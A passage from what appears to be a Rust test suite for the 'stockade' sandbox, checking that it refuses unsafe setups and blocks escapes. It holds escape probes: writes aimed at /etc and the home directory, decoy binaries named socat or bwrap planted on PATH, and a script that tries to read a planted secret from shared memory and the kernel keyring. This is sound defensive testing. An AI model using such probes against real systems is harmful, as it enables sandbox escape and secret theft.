  for (char *number = strtok(strdup(arguments[2]), ","); number; number = strtok(0, ",")) {
    int call = atoi(number);
    program[length++] = (struct sock_filter)LOAD(nr);
    if (call == 56 || call == 272) {
      program[length++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call, 0, 3);
      program[length++] = (struct sock_filter)LOAD(args[0]);
      program[length++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, 0x10000000, 0, 1);
    } else {
      program[length++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call, 0, 1);
    }
    program[length++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | answer);
  }
  program[length++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
  struct sock_fprog filter = {length, program};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter)) {
    perror("filter"); return 99;
  }
  execvp(arguments[3], arguments + 3);
  perror("exec");
  return 99;
}
"#;

const USER_NAMESPACES: &[&str] = &["user namespace", "clone", "namespaces", "fs1"];

#[test]
fn a43_works_without_helper_programs() {
    let world = World::new();
    let mut command = world.stockade();
    command
        .env("PATH", "/nonexistent")
        .args(["run", "--", "/bin/sh", "-c", "echo works"]);
    assert_eq!(Finished::of(command.output().unwrap()).ok(), "works");
    // Programs of these names, in the project and first on PATH, are not run.
    for name in [
        "bwrap",
        "newuidmap",
        "newgidmap",
        "sh",
        "git",
        "socat",
        "iptables",
        "runc",
        "unshare",
    ] {
        let path = world.write(
            format!("project/{name}"),
            "#!/bin/sh\ntouch \"${0%/*}/../looked-up\"\n",
        );
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let mut command = world.stockade();
    command
        .env("PATH", &world.project)
        .args(["run", "--", "/bin/sh", "-c", "echo works"]);
    assert_eq!(Finished::of(command.output().unwrap()).ok(), "works");
    assert!(!world.home.join("looked-up").exists());
}

#[test]
fn a43_and_b30_user_namespaces_denied_by_a_filter() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    let Some(deny) = compile_c(&world, "b30", "deny", DENY) else {
        return;
    };
    let deny = deny.to_str().unwrap();
    let (none, no_call) = (1, 38);
    for (answer, calls) in [(none, "435,56,272"), (no_call, "435,56,272"), (none, "435")] {
        let prepare = format!("exec {deny} {answer} {calls} \"$@\"");
        refusals.expect(&prepare, &[], USER_NAMESPACES);
        refusals.expect(&prepare, &["--nested-sandbox"], USER_NAMESPACES);
    }
    // The control: the same filter over nothing.
    let marker = world.project.join("marker");
    let text = format!("exec {deny} 1 435 touch {}", marker.display());
    assert!(
        caller(&world, "sh")
            .args(["-c", &text])
            .status()
            .unwrap()
            .success()
    );
    assert!(marker.exists());
}

#[test]
fn a43_and_b30_namespaces_used_up() {
    let world = World::new();
    if !has_program("unshare")
        || !caller(&world, "unshare")
            .args(["-Ur", "true"])
            .status()
            .unwrap()
            .success()
    {
        return skip("b30", "userns", "unshare -Ur does not work here");
    }
    let refusals = Refusals { world: &world };
    for kind in ["user", "mnt", "pid", "ipc", "uts", "net", "cgroup"] {
        let prepare = format!(
            "exec unshare -Ur sh -c 'echo 0 > /proc/sys/user/max_{kind}_namespaces || exit 99; exec \"$@\"' sh \"$@\""
        );
        refusals.expect(&prepare, &[], USER_NAMESPACES);
    }
    // The control: with the namespaces at hand it works one level down.
    let inside = caller(&world, "unshare")
        .arg("-Ur")
        .arg(binary())
        .args(["run", "--", "echo", "works"])
        .output();
    assert_eq!(Finished::of(inside.unwrap()).ok(), "works");
}

#[test]
fn a43_and_b30_no_landlock() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    let Some(deny) = compile_c(&world, "b30", "deny", DENY) else {
        return;
    };
    // ENOSYS: not built in; EOPNOTSUPP: not enabled at boot.
    for answer in [38, 95] {
        let prepare = format!("exec {} {answer} 444,445,446 \"$@\"", deny.display());
        refusals.expect(&prepare, &[], &["landlock"]);
    }
}

#[test]
fn a43_and_b30_other_calls_denied() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    let Some(deny) = compile_c(&world, "b30", "deny", DENY) else {
        return;
    };
    // open_tree, move_mount, fsopen, mount_setattr, pivot_root, capset,
    // prctl(2) is needed by the loader; seccomp itself.
    for call in ["428", "429", "430", "442", "155", "126", "317", "165"] {
        let prepare = format!("exec {} 1 {call} \"$@\"", deny.display());
        let marker = world.project.join("marker");
        let mut command = caller(&world, "sh");
        command
            .args(["-c", &prepare, "sh"])
            .arg(binary())
            .args(["run", "--", "touch"])
            .arg(&marker);
        let finished = Finished::of(command.output().unwrap());
        // Not every one is needed; but then it works in full.
        match finished.code {
            Some(0) => assert!(marker.exists()),
            Some(125) => {
                assert!(!marker.exists(), "{call}");
                refusals.expect(&prepare, &[], &["cannot", "failed", "step"]);
            }
            _ => panic!("{call}: {}", both(&finished)),
        }
        let _absent = fs::remove_file(marker).is_err();
    }
}

#[test]
fn a43_and_b30_control_groups_out_of_reach() {
    let world = World::new();
    let flags = if is_root() { "-m" } else { "-Urm" };
    let hide = format!(
        "exec unshare {flags} sh -c 'mount -t tmpfs none /sys/fs/cgroup || exit 99; exec \"$@\"' sh \"$@\""
    );
    let probe = ["-c", "unshare -Urm true", "sh"];
    if !has_program("unshare") || !caller(&world, "sh").args(probe).status().unwrap().success() {
        return skip("b30", "userns", "unshare does not work here");
    }
    world.policy("[limits]\nmemory = \"1GiB\"\nprocesses = 100\nexact = true\n");
    Refusals { world: &world }.expect(&hide, &[], &["control group", "cgroup"]);
    // The control: without the demand it runs, and says what is not exact.
    world.policy("[limits]\nmemory = \"1GiB\"\nprocesses = 100\n");
    let mut command = caller(&world, "sh");
    command
        .args(["-c", &hide, "sh"])
        .arg(binary())
        .args(["run", "--", "echo", "works"]);
    assert_eq!(Finished::of(command.output().unwrap()).ok(), "works");
}

#[test]
fn b30_a_log_or_report_that_cannot_be_written() {
    let world = World::new();
    let marker = world.project.join("marker");
    for report in ["/nonexistent/report.json", "/", "/dev/full/x"] {
        let finished = world.run(&["--report", report], &["touch", "marker"]);
        assert_eq!(finished.code, Some(125), "{}", both(&finished));
    }
    // The log: its directory is a file.
    let state = world.write("state", "");
    let mut command = world.stockade();
    command
        .env("XDG_STATE_HOME", &state)
        .args(["run", "--", "touch", "marker"]);
    let finished = Finished::of(command.output().unwrap());
    assert_eq!(finished.code, Some(125), "{}", both(&finished));
    assert!(!marker.exists());
}

#[test]
fn b32_requested_directories_do_not_widen_the_write_area() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    symlink(&world.home, world.project.join("to-home")).unwrap();
    symlink("/", world.project.join("to-root")).unwrap();
    fs::create_dir(world.project.join("sub")).unwrap();
    let home = world.home.to_str().unwrap();
    for place in [
        "/",
        "..",
        "../..",
        "to-home",
        "to-root",
        "sub/../..",
        home,
        "/etc",
        "/tmp/../etc",
        "~",
    ] {
        refusals.expect("exec \"$@\"", &["-C", place], &["director", "project"]);
    }
    for place in ["/tmp/../etc", "/..", "sub/../../..", "~/.."] {
        refusals.expect("exec \"$@\"", &["--write", place], &[".."]);
        refusals.expect("exec \"$@\"", &["--read", place], &[".."]);
    }
    // In a file as well, and there even the project's own must not widen.
    for text in [
        "write = [\"/tmp/../etc\"]",
        "write = [\"../..\"]",
        "read = [\"a/../../b\"]",
    ] {
        world.policy(&format!("[filesystem]\n{text}\n"));
        refusals.expect("exec \"$@\"", &[], &[".."]);
    }
    world.policy("");
    world.write(
        "project/stockade.toml",
        format!("version = 1\n[filesystem]\nwrite = [\".\", \"{home}\"]\n"),
    );
    refusals.expect("exec \"$@\"", &[], &["trust"]);
    fs::remove_file(world.project.join("stockade.toml")).unwrap();
    // The control, and the write area is what it was.
    let probe = format!("pwd; echo a > inside; echo b > {home}/escaped; echo c > /etc/x; exit 0");
    let inside = world.run(&["-C", "sub"], &["sh", "-c", &probe]).ok();
    assert_eq!(inside, world.project.join("sub").to_str().unwrap());
    assert!(world.project.join("sub/inside").exists() && !world.home.join("escaped").exists());
}

#[test]
fn b32_a_project_that_is_not_one() {
    let world = World::new();
    let refusals = Refusals { world: &world };
    let home = world.home.to_str().unwrap();
    for place in ["/", "..", "../..", home, "/etc", "/var", "/proc/self/root"] {
        refusals.expect(
            "exec \"$@\"",
            &["--project", place],
            &["project", "home", "director"],
        );
    }
    for place in ["/", home, "/etc"] {
        refusals.expect(
            &format!("cd {place}; exec \"$@\""),
            &[],
            &["project", "home", "director"],
        );
    }
}

const OBJECTS: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.syscall.restype = ctypes.c_long
def made(name, value): print(name, value, flush=True)
if sys.argv[1] == "make":
    key = int(sys.argv[2])
    shm = libc.shmget(key, 4096, 0o1666); ctypes.memmove(libc.shmat(shm, None, 0), b"s3cret", 6)
    sem = libc.semget(key, 1, 0o1666); queue = libc.msgget(key, 0o1666)
    ring = libc.syscall(248, b"user", b"stockade-case", b"s3cret", 6, -3)
    made("ids", "%d %d %d %d" % (shm, sem, queue, ring))
    if len(sys.argv) > 3: os.execvp(sys.argv[3], [a.replace("RING", str(ring)).replace("SHM", str(shm)) for a in sys.argv[3:]])
elif sys.argv[1] == "remove":
    libc.shmctl(int(sys.argv[2]), 0, None); libc.semctl(int(sys.argv[3]), 0, 0); libc.msgctl(int(sys.argv[4]), 0, None)
else:
    shm, key, ring = map(int, sys.argv[2:5])
    buffer = ctypes.create_string_buffer(64)
    at = libc.shmat(shm, None, 0x1000)
    if at not in (None, ctypes.c_void_p(-1).value): print("shm by id", ctypes.string_at(at, 6))
    for name, call in (("shm", libc.shmget), ("msg", None), ("sem", None)):
        found = {"shm": lambda: libc.shmget(key, 4096, 0), "msg": lambda: libc.msgget(key, 0), "sem": lambda: libc.semget(key, 1, 0)}[name]()
        if found >= 0: print(name, "by key")
    for operation, argument in ((11, ring), (0, -3), (6, ring), (1, 0)):
        result = libc.syscall(250, operation, argument, buffer, 64, 0)
        if result >= 0: print("keyctl", operation, buffer.value[:6])
    if libc.syscall(249, b"user", b"stockade-case", 0, 0) >= 0: print("request_key")
    if libc.syscall(248, b"user", b"inside", b"x", 1, -3) >= 0: print("add_key")
    for name in ("/proc/keys", "/proc/sysvipc/shm", "/proc/sysvipc/msg"):
        try: lines = open(name).read().splitlines()[name != "/proc/keys":]
        except OSError: lines = []
        if lines: print(name, len(lines))
"#;

#[test]
fn b35_kernel_objects_without_a_path() {
    if !has_python("b35") {
        return;
    }
    let world = World::new();
    world.write("project/objects.py", OBJECTS);
    let key = (0x5700_0000 + std::process::id() * 7).to_string();
    let run = |through: &[&str]| {
        let mut command = caller(&world, "python3");
        command.args(["objects.py", "make", &key]).args(through);
        command.args(["python3", "objects.py", "look", "SHM", &key, "RING"]);
        Finished::of(command.output().unwrap()).ok()
    };
    let stockade = binary();
    let stockade = stockade.to_str().unwrap();
    let outside = run(&["env"]);
    let inside = run(&[stockade, "run", "--"]);
    let nested = run(&[stockade, "run", "--quiet", "--nested-sandbox", "--"]);
    let ids: Vec<&str> = inside.split_whitespace().skip(1).take(3).collect();
    caller(&world, "python3")
        .args(["objects.py", "remove"])
        .args(&ids)
        .status()
        .unwrap();
    for name in [
        "shm by id b's3cret'",
        "shm by key",
        "msg by key",
        "sem by key",
    ] {
        assert!(outside.contains(name), "the control, {name}: {outside}");
    }
    if !outside.contains("keyctl 11 b's3cret'") {
        skip(
            "b35 (control)",
            "keyrings",
            "keys cannot be read outside either",
        );
    }
    assert_eq!(inside.lines().count(), 1, "{inside}");
    // The names of the user's keys are listed in a nested form's /proc, of
    // which no part can be covered; the keys themselves are out of reach.
    let reached = nested
        .lines()
        .skip(1)
        .filter(|line| !line.starts_with("/proc/keys"));
    assert_eq!(reached.count(), 0, "{nested}");
}

#[test]
fn b35_message_queues_by_name() {
    let world = World::new();
    let source = "#include <mqueue.h>\n#include <stdio.h>\n#include <fcntl.h>\n#include <string.h>\n\
        int main(int n, char **a) { if (!strcmp(a[1], \"remove\")) return mq_unlink(a[2]);\n\
        mqd_t q = mq_open(a[2], n > 3 ? O_RDWR | O_CREAT : O_RDWR, 0600, 0); puts(q < 0 ? \"absent\" : \"open\"); }";
    let Some(program) = compile_c(&world, "b35", "queue", source) else {
        return;
    };
    let name = format!("/stockade-{}-{}", std::process::id(), is_root());
    let outside =
        |arguments: &[&str]| Finished::of(Command::new(&program).args(arguments).output().unwrap());
    if outside(&["open", &name, "create"]).stdout.trim() != "open" {
        return skip("b35", "mqueue", "no message queue can be made here");
    }
    assert_eq!(outside(&["open", &name]).ok(), "open", "the control");
    let inside = world.run(&[], &["./queue", "open", &name]);
    outside(&["remove", &name]).expect_code(0);
    assert_eq!(inside.ok(), "absent");
}

#[test]
fn b35_nothing_is_left_in_the_kernel() {
    if !has_python("b35") {
        return;
    }
    let world = World::new();
    world.write("project/objects.py", OBJECTS);
    let key = (0x5800_0000 + std::process::id() * 7).to_string();
    world.run(&[], &["python3", "objects.py", "make", &key]);
    let look = caller(&world, "python3")
        .args(["objects.py", "look", "-1", &key, "-1"])
        .output()
        .unwrap();
    assert!(!Finished::of(look).ok().contains("shm by key"));
}
